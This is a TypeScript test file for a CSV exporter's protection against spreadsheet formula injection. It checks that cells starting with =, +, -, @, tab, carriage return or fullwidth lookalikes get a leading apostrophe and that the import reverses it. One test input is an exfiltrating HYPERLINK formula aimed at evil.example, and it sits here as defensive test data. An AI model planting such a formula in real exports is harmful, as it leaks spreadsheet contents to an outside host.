import fc from 'fast-check'
import { parse } from 'csv-parse/sync'
import { describe, expect, it } from 'vitest'
import { neutraliseCsvCell, restoreCsvCell } from '#app/lib/csv-cells.ts'
import { toCsv } from '#app/modules/exports/csv.ts'

describe('neutraliseCsvCell: text a spreadsheet would run as a formula gets a leading apostrophe', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")'],
    ['+351 910 000 000', "'+351 910 000 000"],
    ['-2+3', "'-2+3"],
    ['-', "'-"],
    ['@SUM(1)', "'@SUM(1)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['\uFF1D1+1', "'\uFF1D1+1"],
    ['\uFF0B1', "'\uFF0B1"],
    ['\uFF0D1', "'\uFF0D1"],
    ['\uFF20SUM(1)', "'\uFF20SUM(1)"],
    // Already an apostrophe before a trigger: one more, so that the import gives this text back.
    ["'=1+1", "''=1+1"],
    ["''@x", "'''@x"],
  ])('%j → %j', (text, written) => {
    expect(neutraliseCsvCell(text)).toBe(written)
  })

  it.each(['', 'Sunny flat', "'hello", "'", "''", ' =1+1', '\n=1+1', 'a=1', '1-2', 'x@example.com', '2024-03-01T00:00:00.000Z', '{"a":1}'])(
    'leaves %j as it is',
    (text) => {
      expect(neutraliseCsvCell(text)).toBe(text)
    },
  )
})

describe('restoreCsvCell: the import reads a neutralised cell as its original text', () => {
  it.each([
    ["'=1+1", '=1+1'],
    ["'\t=1+1", '\t=1+1'],
    ["'\r=1+1", '\r=1+1'],
    ["'@SUM(1)", '@SUM(1)'],
    ["'-", '-'],
    ["''=1+1", "'=1+1"],
  ])('%j → %j', (cell, text) => {
    expect(restoreCsvCell(cell)).toBe(text)
  })

  it.each(["'hello", "'", "''", "'' =x", '=1+1', 'plain', "'\n=x"])('leaves %j as it is', (cell) => {
    expect(restoreCsvCell(cell)).toBe(cell)
  })

  it('undoes neutraliseCsvCell for any text, and what it writes never starts with a trigger', () => {
    const alphabet = fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', '\n', ' ', 'a', '1', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20')
    fc.assert(
      fc.property(fc.oneof(fc.string(), fc.string({ unit: alphabet })), (text) => {
        const written = neutraliseCsvCell(text)
        expect(written).not.toMatch(/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/)
        expect(restoreCsvCell(written)).toBe(text)
      }),
      { seed: 23, numRuns: 2000 },
    )
  })
})

describe('toCsv (the data export’s writer)', () => {
  it('neutralises text cells and keeps numbers as numbers', () => {
    const csv = toCsv([
      { title: '\t=1+1', city: '\r=2+2', name: '@SUM(1)', note: '-', longitude: -9.1334, floor: -1, price: -5, tags: ['=x'], at: new Date('2024-03-01T00:00:00Z'), none: null },
    ])
    expect(csv.split('\r\n')[1]).toBe('\'\t=1+1,"\'\r=2+2",\'@SUM(1),\'-,-9.1334,-1,-5,"[""=x""]",2024-03-01T00:00:00.000Z,')
    const [row] = parse(csv, { columns: true }) as Record<string, string>[]
    expect(row).toEqual({ title: "'\t=1+1", city: "'\r=2+2", name: "'@SUM(1)", note: "'-", longitude: '-9.1334', floor: '-1', price: '-5', tags: '["=x"]', at: '2024-03-01T00:00:00.000Z', none: '' })
  })
})
